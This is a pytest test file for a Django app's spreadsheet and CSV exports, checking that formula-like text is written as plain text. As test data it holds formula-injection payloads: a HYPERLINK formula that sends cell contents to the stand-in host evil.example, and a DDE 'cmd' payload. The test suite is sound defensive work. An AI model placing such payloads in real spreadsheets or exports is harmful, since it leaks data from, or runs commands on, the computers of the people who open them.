"""Formula injection: text that starts with = + - @ tab or CR is written as text in every export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from indicators.admin_export import IndicatorResource
from indicators.exporting import plan_to_xlsx
from indicators.exporting.cells import append_row, csv_text, is_formula_like, write_cell
from indicators.models import Indicator
from tests.indicators.factories import plan_with_contents

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def cells_of(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, expected_text: str) -> None:
    cells = cells_of(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == expected_text for cell in cells), "the text itself is kept, as typed"


@pytest.mark.parametrize("text", ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text(text):
    assert is_formula_like(text)
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+3,5", "-16.861", "Bình thường", 5, None, ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert not is_formula_like(value)
    assert csv_text(value) == value


def test_write_cell_and_append_row_write_text():
    workbook = Workbook()
    sheet = workbook.active
    write_cell(sheet, 1, 1, "=1+1")
    append_row(sheet, ["@SUM(A1)", "=2+2", 3])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = cells_of(buffer.getvalue())
    assert [(cell.value, cell.data_type) for cell in cells if cell.value is not None] == [
        ("=1+1", "s"), ("@SUM(A1)", "s"), ("=2+2", "s"), (3, "n")]


@pytest.fixture
def plan(province, dost, agency_a):
    plan = plan_with_contents(province=province, lead=dost, coordinating=agency_a, code="ha-tang-so",
                              label="Đồng Tháp")
    Indicator.objects.filter(plan=plan, code="I.1").update(name=ATTACK)
    return plan


@pytest.mark.django_db
def test_plan_export(plan):
    assert_no_formula(plan_to_xlsx(plan), ATTACK)


@pytest.mark.django_db
def test_admin_export_xlsx(client, staff_admin, plan):
    client.force_login(staff_admin)
    response = client.post(reverse("admin:indicators_indicator_export"),
                           {"format": "0", "resource": "0", "indicatorresource_code": "on",
                            "indicatorresource_name": "on"})
    assert response.status_code == 200
    assert_no_formula(response.content, ATTACK)


@pytest.mark.django_db
def test_admin_export_csv(client, staff_admin, plan):
    client.force_login(staff_admin)
    data = {"format": "1", "resource": "0"}
    for field_name in IndicatorResource().get_export_order():
        data[f"indicatorresource_{field_name}"] = "on"
    response = client.post(reverse("admin:indicators_indicator_export"), data)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'" + ATTACK in [row["Chỉ tiêu"] for row in rows]
    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())
